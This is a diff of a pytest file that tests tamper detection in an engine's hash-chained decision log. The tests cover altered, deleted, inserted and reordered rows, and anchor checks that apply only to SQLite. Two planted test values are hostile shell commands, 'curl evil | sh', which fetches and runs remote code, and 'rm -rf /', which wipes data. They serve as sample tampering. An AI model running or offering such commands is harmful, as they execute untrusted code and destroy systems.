@@ -5,25 +5,30 @@ from __future__ import annotations
 import json
 import os
 import sqlite3
-from pathlib import Path
 
 import pytest
 
 from engine.app.cli import main
 from engine.store.log import FIELDS, row_hash
+from tests.durability.targets import Target
+
+#: Why the anchor tests are SQLite's alone.
+NO_ANCHOR = ("the anchor is a file beside the SQLite database; the PostgreSQL store has "
+             "none, so a consistent rewrite by someone who may write the log table is not "
+             "detectable there")
 
 
 @pytest.fixture
-async def logged(world, db_path: Path) -> Path:
-    """A log of 8 rows on disk, the engine closed."""
+async def logged(world, target: Target) -> Target:
+    """A log of 8 rows in the store, the engine closed."""
     for i in range(8):
         await world.call("c1", "terminals.run", "t1", {"command": f"cmd {i}"})
     world.close()
-    return db_path
+    return target
 
 
-def _verify(db: Path, capsys) -> tuple[int, str]:
-    code = main(["log", "verify", "--db", str(db)])
+def _verify(store: Target, capsys) -> tuple[int, str]:
+    code = main(["log", "verify", *store.args()])
     return code, capsys.readouterr().out
 
 
@@ -40,7 +45,7 @@ def _rehash_all(conn: sqlite3.Connection) -> None:
         prev = new
 
 
-def test_untouched_log_gives_no_false_alarm(logged: Path, capsys) -> None:
+def test_untouched_log_gives_no_false_alarm(logged: Target, capsys) -> None:
     """An untouched log verifies, exit 0."""
     code, out = _verify(logged, capsys)
     assert code == 0 and "ok: 8 rows" in out
@@ -50,28 +55,29 @@ def test_untouched_log_gives_no_false_alarm(logged: Path, capsys) -> None:
     ("altered payload", "update log set payload = 'curl evil | sh' where seq = 3", 3),
     ("altered outcome", "update log set outcome = 'denied' where seq = 4", 4),
     ("deleted middle row", "delete from log where seq = 5", 6),
-    ("deleted tail rows", "delete from log where seq >= 7", 7),
+    # Only the anchor knows how long the log was: a cut tail leaves a valid chain.
+    pytest.param("deleted tail rows", "delete from log where seq >= 7", 7,
+                 marks=pytest.mark.sqlite_only(NO_ANCHOR)),
     ("inserted row", "insert into log (seq, t, call, outcome, prev, hash) values "
                      "(9, 0, 'terminals.run', 'ok', 'x', 'y')", 9),
     ("reordered rows", "update log set seq = case seq when 2 then 1000 else seq end; "
                        "update log set seq = 2 where seq = 3; "
                        "update log set seq = 3 where seq = 1000", 2),
 ])
-def test_tampering_is_found(logged: Path, capsys, kind: str, tamper: str, first_bad: int) -> None:
+def test_tampering_is_found(logged: Target, capsys, kind: str, tamper: str,
+                            first_bad: int) -> None:
     """Each kind of tampering is found, naming the first bad row; exit 1."""
-    conn = sqlite3.connect(logged)
-    conn.executescript(tamper)
-    conn.commit()
-    conn.close()
+    logged.execute(tamper)
     code, out = _verify(logged, capsys)
     assert code == 1, kind
     assert f"first bad row {first_bad}" in out, out
 
 
+@pytest.mark.sqlite_only(NO_ANCHOR)
 @pytest.mark.parametrize("kind", ["rewritten chain", "forged appended row", "cut tail rehashed"])
-def test_consistent_rewrites_are_found_by_the_anchor(logged: Path, capsys, kind: str) -> None:
+def test_consistent_rewrites_are_found_by_the_anchor(logged: Target, capsys, kind: str) -> None:
     """A chain rewritten consistently (valid hashes throughout) disagrees with the anchor."""
-    conn = sqlite3.connect(logged)
+    conn = sqlite3.connect(logged.db)
     if kind == "rewritten chain":
         conn.execute("update log set payload = 'rm -rf /' where seq = 2")
     elif kind == "forged appended row":
@@ -86,16 +92,17 @@ def test_consistent_rewrites_are_found_by_the_anchor(logged: Path, capsys, kind:
     assert code == 1 and ("anchor" in out or "missing" in out), out
 
 
-def test_deleting_the_anchor_is_a_finding(logged: Path, capsys) -> None:
+@pytest.mark.sqlite_only(NO_ANCHOR)
+def test_deleting_the_anchor_is_a_finding(logged: Target, capsys) -> None:
     """The database remembers it has an anchor."""
-    os.remove(str(logged) + ".anchor")
+    os.remove(str(logged.db) + ".anchor")
     code, out = _verify(logged, capsys)
     assert code == 1 and "anchor file is missing" in out
 
 
-def test_export_jsonl_schema(logged: Path, capsys) -> None:
+def test_export_jsonl_schema(logged: Target, capsys) -> None:
     """One decision per line, in the documented schema."""
-    assert main(["log", "export", "--jsonl", "--db", str(logged)]) == 0
+    assert main(["log", "export", "--jsonl", *logged.args()]) == 0
     lines = [json.loads(x) for x in capsys.readouterr().out.splitlines()]
     assert len(lines) == 8
     first = lines[0]
